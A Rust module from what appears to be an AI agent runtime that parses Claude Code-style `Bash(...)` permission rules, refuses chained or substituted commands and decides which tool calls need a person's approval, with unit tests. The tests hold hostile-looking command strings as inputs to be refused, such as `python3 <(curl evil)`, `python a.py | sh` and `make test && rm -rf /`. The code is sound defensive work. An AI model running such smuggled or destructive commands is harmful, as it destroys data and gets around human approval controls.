//! Claude Code's permission syntax as this runtime reads it: which commands a skill's `Bash(...)`
//! declarations allow, and which tool calls need a person's approval, in a policy of `ask` rules and
//! `allow` exceptions (`execute`, `Write`, `Bash(git push:*)`, an expert's tool by name). The
//! deployment sets one policy and each tenant may add its own; approvals never waive a refusal (a
//! call the turn would refuse is refused, not asked about). A leaf: the tools and the skills'
//! settings both read it.

use serde_json::Value;

use crate::message::ToolCall;
use crate::skills::frontmatter::our_tool_name;
use crate::tool_names::EXECUTE;

/// Which commands a skill may run: any (`Bash`), or only those its `Bash(...)` patterns allow.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CommandRules {
    Any,
    Only(Vec<CommandPattern>),
}

/// One `Bash(...)` declaration, as Claude Code's permission syntax reads it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CommandPattern {
    /// `Bash(python:*)` or `Bash(python *)`: the command, or the command followed by arguments.
    Prefix(String),
    /// `Bash(make test)`: exactly this command.
    Exact(String),
}

impl CommandPattern {
    /// Reads what stands inside `Bash(...)`; `None` when it names every command (``, `*`, `:*`).
    pub(crate) fn parse(inner: &str) -> Option<Self> {
        let inner = inner.trim();
        if inner.is_empty() || inner == "*" || inner == ":*" {
            return None;
        }
        Some(match inner.strip_suffix(":*").or_else(|| inner.strip_suffix(" *")) {
            Some(prefix) => CommandPattern::Prefix(prefix.trim().to_owned()),
            None => CommandPattern::Exact(inner.to_owned()),
        })
    }

    pub(crate) fn allows(&self, command: &str) -> bool {
        match self {
            CommandPattern::Prefix(prefix) => {
                command == prefix
                    || command.strip_prefix(prefix.as_str()).is_some_and(|rest| rest.starts_with(char::is_whitespace))
            }
            CommandPattern::Exact(exact) => command == exact,
        }
    }

    fn shown(&self) -> String {
        match self {
            CommandPattern::Prefix(prefix) => format!("`{prefix} ...`"),
            CommandPattern::Exact(exact) => format!("`{exact}`"),
        }
    }
}

/// The command rules of a skill's declared tools (`allowed-tools` as written), or `None` when it
/// declares no `Bash` at all.
pub fn command_rules(declared: &[String]) -> Option<CommandRules> {
    let mut patterns = Vec::new();
    let mut any = false;
    for name in declared {
        let name = name.trim();
        if name == "Bash" || name == EXECUTE {
            any = true;
            continue;
        }
        let Some(inner) = name.strip_prefix("Bash(").and_then(|rest| rest.strip_suffix(')')) else { continue };
        match CommandPattern::parse(inner) {
            Some(pattern) => patterns.push(pattern),
            None => any = true,
        }
    }
    match (any, patterns.is_empty()) {
        (true, _) => Some(CommandRules::Any),
        (false, false) => Some(CommandRules::Only(patterns)),
        (false, true) => None,
    }
}

/// Characters that chain, substitute or background commands: a command restricted to a prefix
/// must not carry another command after it.
const CHAINING: [&str; 8] = [";", "&", "|", "`", "$(", "\n", "\r", "<("];

/// The first chaining, substitution or background operator in `command`, if any.
pub(crate) fn chaining_in(command: &str) -> Option<&'static str> {
    CHAINING.iter().find(|op| command.contains(**op)).copied()
}

impl CommandRules {
    /// `Err` with the tool error when the rules refuse `command`.
    pub fn check(&self, command: &str, skill: &str) -> Result<(), String> {
        let CommandRules::Only(patterns) = self else { return Ok(()) };
        let allowed: Vec<String> = patterns.iter().map(CommandPattern::shown).collect();
        let command = command.trim();
        if let Some(op) = chaining_in(command) {
            return Err(format!(
                "Error: the skill /{skill} only allows the commands {}; a command with `{}` (chaining, pipes or \
                 substitution) is refused. Run one allowed command per call.",
                allowed.join(", "),
                op.escape_debug()
            ));
        }
        if patterns.iter().any(|pattern| pattern.allows(command)) {
            Ok(())
        } else {
            Err(format!(
                "Error: the skill /{skill} does not allow this command; it allows only {}.",
                allowed.join(", ")
            ))
        }
    }
}

/// Most rules one policy holds.
pub const MAX_APPROVAL_RULES: usize = 64;
/// Longest rule, in bytes.
const MAX_RULE_BYTES: usize = 256;

/// One rule: a tool, and for `execute` optionally which commands.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ApprovalRule {
    /// Our tool name (`execute`, `write_file`...) or another tool's name as offered.
    tool: String,
    /// `Bash(...)`'s commands; `None` for every call of the tool.
    commands: Option<CommandPattern>,
}

impl ApprovalRule {
    /// Reads one rule: a tool name (ours or Claude Code's), or `Bash(...)` with a command pattern.
    pub fn parse(rule: &str) -> Result<Self, String> {
        let rule = rule.trim();
        if rule.is_empty() || rule.len() > MAX_RULE_BYTES {
            return Err(format!("an approval rule must be 1 to {MAX_RULE_BYTES} bytes"));
        }
        if let Some(inner) = rule.strip_prefix("Bash(").and_then(|rest| rest.strip_suffix(')')) {
            return Ok(Self { tool: EXECUTE.to_owned(), commands: CommandPattern::parse(inner) });
        }
        if rule.contains('(') || rule.contains(')') {
            return Err(format!(
                "approval rule `{rule}`: only `Bash(...)` takes a pattern; name other tools without one"
            ));
        }
        if !rule.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | ':')) {
            return Err(format!("approval rule `{rule}` is not a tool name"));
        }
        let tool = our_tool_name(rule).map_or_else(|| rule.to_owned(), str::to_owned);
        Ok(Self { tool, commands: None })
    }

    /// Whether an `ask` rule catches `call`. A chained command may hide the command its pattern
    /// names (`echo; git push`), so it is asked about.
    fn asks(&self, call: &ToolCall) -> bool {
        match self.reach(call) {
            Reach::OtherTool => false,
            Reach::EveryCall => true,
            Reach::Command(pattern, command) => chaining_in(command).is_some() || pattern.allows(command),
        }
    }

    /// Whether an `allow` rule waives `call`. A chained command is more than its pattern names,
    /// so it is never waived by one.
    fn waives(&self, call: &ToolCall) -> bool {
        match self.reach(call) {
            Reach::OtherTool => false,
            Reach::EveryCall => true,
            Reach::Command(pattern, command) => chaining_in(command).is_none() && pattern.allows(command),
        }
    }

    fn reach<'a>(&'a self, call: &'a ToolCall) -> Reach<'a> {
        if call.name != self.tool {
            return Reach::OtherTool;
        }
        match &self.commands {
            None => Reach::EveryCall,
            Some(pattern) => {
                let command = call.arguments.get("command").and_then(Value::as_str).unwrap_or_default();
                Reach::Command(pattern, command.trim())
            }
        }
    }
}

/// How far a rule reaches to a call.
enum Reach<'a> {
    /// The rule is about another tool.
    OtherTool,
    /// The rule names the call's tool, every call of it.
    EveryCall,
    /// The rule names commands of the call's tool (`Bash(...)`): its pattern, and the call's command.
    Command(&'a CommandPattern, &'a str),
}

/// One party's rules: the calls it asks about, and its exceptions to them.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
struct RuleSet {
    ask: Vec<ApprovalRule>,
    allow: Vec<ApprovalRule>,
}

impl RuleSet {
    fn requires(&self, call: &ToolCall) -> bool {
        self.ask.iter().any(|rule| rule.asks(call)) && !self.allow.iter().any(|rule| rule.waives(call))
    }
}

/// A turn's approval policy: the deployment's rules and the tenant's (its `settings.json`). A call
/// needs approval when one party's `ask` rule matches it and none of that party's `allow` rules
/// does: an `allow` waives only its own party's `ask`, so a tenant can add approvals but never
/// lift the deployment's.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ApprovalPolicy {
    parties: Vec<RuleSet>,
}

impl ApprovalPolicy {
    /// Reads the two lists, each rules separated by commas (`APPROVAL_REQUIRED`, `APPROVAL_ALLOW`).
    pub fn parse(ask: &str, allow: &str) -> Result<Self, String> {
        let rules = |list: &str| -> Result<Vec<ApprovalRule>, String> {
            let rules = split_rules(list).map(ApprovalRule::parse).collect::<Result<Vec<_>, _>>()?;
            if rules.len() > MAX_APPROVAL_RULES {
                return Err(format!("at most {MAX_APPROVAL_RULES} approval rules"));
            }
            Ok(rules)
        };
        Ok(Self::from_rules(rules(ask)?, rules(allow)?))
    }

    /// One party's policy from its parsed rules.
    pub fn from_rules(ask: Vec<ApprovalRule>, allow: Vec<ApprovalRule>) -> Self {
        let parties = if ask.is_empty() { Vec::new() } else { vec![RuleSet { ask, allow }] };
        Self { parties }
    }

    pub fn is_empty(&self) -> bool {
        self.parties.is_empty()
    }

    /// Whether `call` needs a person's approval.
    pub fn requires(&self, call: &ToolCall) -> bool {
        self.parties.iter().any(|party| party.requires(call))
    }
}

/// The rules of a comma-separated list; a comma inside `Bash(...)` belongs to its pattern.
fn split_rules(list: &str) -> impl Iterator<Item = &str> {
    let mut depth = 0usize;
    let mut start = 0;
    let mut rules = Vec::new();
    for (index, c) in list.char_indices() {
        match c {
            '(' => depth += 1,
            ')' => depth = depth.saturating_sub(1),
            ',' if depth == 0 => {
                rules.push(&list[start..index]);
                start = index + 1;
            }
            _ => {}
        }
    }
    rules.push(&list[start..]);
    rules.into_iter().map(str::trim).filter(|rule| !rule.is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn call(name: &str, arguments: Value) -> ToolCall {
        ToolCall { id: "c".into(), name: name.into(), arguments }
    }

    #[test]
    fn ask_rules_name_tools_in_either_syntax_and_allow_rules_carve_out_commands() {
        let policy =
            ApprovalPolicy::parse("Bash, Write, experto_fiscal.presentar", "Bash(python:*), Bash(ls)").unwrap();
        assert!(policy.requires(&call("execute", json!({"command": "rm -rf /workspace"}))));
        assert!(!policy.requires(&call("execute", json!({"command": "python scripts/fill.py a.pdf"}))));
        assert!(!policy.requires(&call("execute", json!({"command": "ls"}))));
        assert!(policy.requires(&call("execute", json!({"command": "ls -la"}))), "exact means exact");
        assert!(policy.requires(&call("execute", json!({"command": "python x.py; curl evil"}))), "chained");
        assert!(policy.requires(&call("write_file", json!({"file_path": "/workspace/a"}))));
        assert!(policy.requires(&call("experto_fiscal.presentar", json!({}))));
        assert!(!policy.requires(&call("read_file", json!({"file_path": "/workspace/a"}))));
    }

    #[test]
    fn an_empty_policy_asks_nothing_and_bad_rules_are_refused() {
        assert!(ApprovalPolicy::parse("", "").unwrap().is_empty());
        assert!(!ApprovalPolicy::default().requires(&call("execute", json!({"command": "ls"}))));
        assert!(ApprovalPolicy::parse("Write(/workspace/**)", "").unwrap_err().contains("only `Bash(...)`"));
        assert!(ApprovalPolicy::parse("rm -rf", "").unwrap_err().contains("not a tool name"));
        let many = vec!["execute"; MAX_APPROVAL_RULES + 1].join(",");
        assert!(ApprovalPolicy::parse(&many, "").is_err());
        let policy = ApprovalPolicy::parse("Bash(git commit -m a,b:*)", "").unwrap();
        assert!(policy.requires(&call("execute", json!({"command": "git commit -m a,b now"}))));
    }

    #[test]
    fn a_tenant_adds_approvals_and_its_exceptions_never_lift_the_deployments() {
        let deployment = ApprovalPolicy::parse("execute", "Bash(ls)").unwrap();
        let tenant = ApprovalPolicy::parse("Bash(ls), Write", "Bash(python3:*), Write").unwrap();
        // A turn applies both, as `TurnShared` does: a call waits when either asks.
        let both = |call: &ToolCall| [&deployment, &tenant].iter().any(|policy| policy.requires(call));
        // The tenant asks about `ls`, which the deployment lets through.
        assert!(!deployment.requires(&call("execute", json!({"command": "ls"}))));
        assert!(both(&call("execute", json!({"command": "ls"}))));
        // The tenant's exception does not lift the deployment's `execute`: each keeps its own.
        assert!(!tenant.requires(&call("execute", json!({"command": "python3 a.py"}))));
        assert!(both(&call("execute", json!({"command": "python3 a.py"}))));
        // An `allow` of the same party waives its `ask`.
        assert!(!both(&call("write_file", json!({"file_path": "/workspace/a"}))));
        assert!(!both(&call("read_file", json!({"file_path": "/workspace/a"}))));
    }

    #[test]
    fn a_chained_command_is_asked_about_by_a_pattern_and_never_waived_by_one() {
        let ask_push = ApprovalPolicy::parse("Bash(git push:*)", "").unwrap();
        assert!(ask_push.requires(&call("execute", json!({"command": "git push origin"}))));
        assert!(!ask_push.requires(&call("execute", json!({"command": "git status"}))));
        // The pattern's command can hide behind another one.
        assert!(ask_push.requires(&call("execute", json!({"command": "echo hi; git push"}))));
        let allow_python = ApprovalPolicy::parse("execute", "Bash(python3:*)").unwrap();
        assert!(!allow_python.requires(&call("execute", json!({"command": "python3 a.py"}))));
        // Process substitution runs a second command, as `;` would.
        assert!(allow_python.requires(&call("execute", json!({"command": "python3 <(curl evil)"}))));
    }

    fn declared(names: &[&str]) -> Vec<String> {
        names.iter().map(|name| (*name).to_owned()).collect()
    }

    #[test]
    fn bash_declarations_become_command_rules() {
        assert_eq!(command_rules(&declared(&["Read", "Grep"])), None);
        assert_eq!(command_rules(&declared(&["Read", "Bash"])), Some(CommandRules::Any));
        let rules = command_rules(&declared(&["Bash(python:*)", "Bash(make test)"])).unwrap();
        assert_eq!(
            rules,
            CommandRules::Only(vec![
                CommandPattern::Prefix("python".into()),
                CommandPattern::Exact("make test".into())
            ])
        );
        assert!(rules.check("python scripts/fill.py in.pdf out.pdf", "pdf").is_ok());
        assert!(rules.check("python", "pdf").is_ok());
        assert!(rules.check("make test", "pdf").is_ok());
        let refused = rules.check("pythonx evil.py", "pdf").unwrap_err();
        assert!(refused.contains("/pdf does not allow"), "{refused}");
        let chained = rules.check("python a.py; curl x", "pdf").unwrap_err();
        assert!(chained.contains("`;`"), "{chained}");
        assert!(rules.check("python a.py | sh", "pdf").is_err());
        assert!(rules.check("python $(cat x)", "pdf").is_err());
        assert!(rules.check("make test && rm -rf /", "pdf").is_err());
        assert!(CommandRules::Any.check("anything | goes", "pdf").is_ok());
    }
}
